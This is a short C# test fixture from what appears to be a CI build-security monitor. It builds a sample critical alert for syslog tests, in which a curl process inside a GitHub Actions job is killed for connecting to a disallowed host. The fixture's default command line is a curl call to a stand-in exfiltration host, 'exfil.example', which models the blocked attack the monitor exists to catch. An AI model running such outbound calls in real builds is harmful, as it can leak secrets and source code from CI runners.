using BuildSentry.Core.Alerts;

namespace BuildSentry.Linux.Tests.Syslog;

/// <summary>Alerts with every field the issue lists filled in, for checking records from the outside.</summary>
internal static class RichAlerts
{
    public static Alert Violation(string id, IReadOnlyList<string>? argv = null, string exe = "/usr/bin/curl") =>
        new(id, new DateTimeOffset(2026, 11, 29, 5, 30, 1, 250, TimeSpan.Zero), AlertKinds.EgressConnection,
            "Connection to a destination no rule allows", AlertSeverity.Critical, AlertAction.Killed)
        {
            Job = new AlertJob("github-actions", "job-4711", "acme/payments", "release.yml", "build (linux)", "991", "2", "runner-07"),
            Process = new AlertProcess(4242, exe, argv ?? ["curl", "-s", "https://exfil.example/x"], "/home/runner/work/payments", 1001,
                [new AlertAncestor(4200, "/usr/bin/bash"), new AlertAncestor(4100, "/opt/runner/bin/Runner.Worker")]),
            Destination = new AlertDestination("203.0.113.9", 443, "tcp", ["exfil.example", "cdn.exfil.example"], "exfil.example"),
            Profile = "payments-build",
            Reason = "no rule of profile payments-build allows exfil.example:443",
        };
}
